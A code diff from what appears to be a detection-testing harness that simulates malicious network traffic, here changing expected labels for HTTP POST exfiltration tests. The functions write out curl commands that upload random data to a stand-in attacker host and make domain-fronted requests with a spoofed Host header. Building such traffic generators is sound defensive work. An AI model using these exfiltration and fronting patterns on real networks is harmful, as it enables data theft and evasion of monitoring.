@@ -30,7 +30,7 @@ def sni(net: Network) -> None:
     net.c1.every(2.5, 0.2, 20, lambda n, token: f"{CURL} -k --resolve {front}:443:{at.BAD} -H 'Host: {at.BAD_NAME}' https://{front}/x/{token}")
 
 
-@malicious("http-post-exfil", "T1041 T1071.001", tools="curl", talks=TO_BAD, expects=["T1041"], seconds=60)
+@malicious("http-post-exfil", "T1041 T1071.001", tools="curl", talks=TO_BAD, expects=["upload"], seconds=60)
 def post(net: Network) -> None:
     """uploads: posts of 6 to 15 kB of data that do not compress, tiny answers"""
     web(net.inet, at.BAD, 80)
@@ -38,7 +38,7 @@ def post(net: Network) -> None:
     net.c1.every(2, 0.3, 18, lambda n, token: f"head -c {6000 + n * 977 % 9000} /dev/urandom | {send} http://{at.BAD_NAME}/up/{token}")
 
 
-@malicious("http-post-chunks", "T1030 T1041", tools="curl", talks=TO_BAD, expects=["T1041"], seconds=75)
+@malicious("http-post-chunks", "T1030 T1041", tools="curl", talks=TO_BAD, expects=["upload"], seconds=75)
 def post_chunks(net: Network) -> None:
     """uploads in pieces of one size: 4096 bytes every 2 s"""
     web(net.inet, at.BAD, 80)
